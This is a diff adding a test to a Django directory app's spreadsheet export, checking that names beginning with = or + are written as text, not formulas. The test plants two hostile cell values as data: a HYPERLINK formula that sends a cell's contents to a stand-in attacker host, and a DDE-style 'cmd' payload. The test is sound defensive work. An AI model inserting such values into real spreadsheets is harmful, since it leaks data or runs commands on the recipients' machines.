@@ -117,3 +117,18 @@ def test_pages_answer_and_errors_show_no_500(client, org):
     other = DirectoryEntry.objects.get(user=org.other_leader)
     client.post(f"/danh-ba/noi-bo/{other.pk}/", {"office_phone": "1", "listed": ""})
     assert DirectoryEntry.objects.get(pk=other.pk).listed
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(listed):
+    """Formula injection: a name or title starting with = (or + - @) would be
+    stored as a formula by the spreadsheet writer and run when opened."""
+    listed.specialist.full_name = '=HYPERLINK("http://ke-gian.example/?"&A1,"Bấm vào đây")'
+    listed.specialist.job_title = "+1+cmd|' /C calc'!A0"
+    listed.specialist.save()
+    ws = load_workbook(io.BytesIO(spreadsheets.export_directory())).active
+    (row,) = [r for r in ws.iter_rows(min_row=2) if "HYPERLINK" in str(r[0].value)]
+    name, title = row[0], row[1]
+    assert name.data_type == "s" and title.data_type == "s"  # text, not a formula
+    assert name.value == "'" + listed.specialist.full_name and title.value.startswith("'+1+cmd")
+    assert row[2].value == "Sở Xây dựng"  # ordinary text is written as is
+    assert spreadsheets._safe("Lê Hoàng Nam") == "Lê Hoàng Nam" and spreadsheets._safe(None) is None
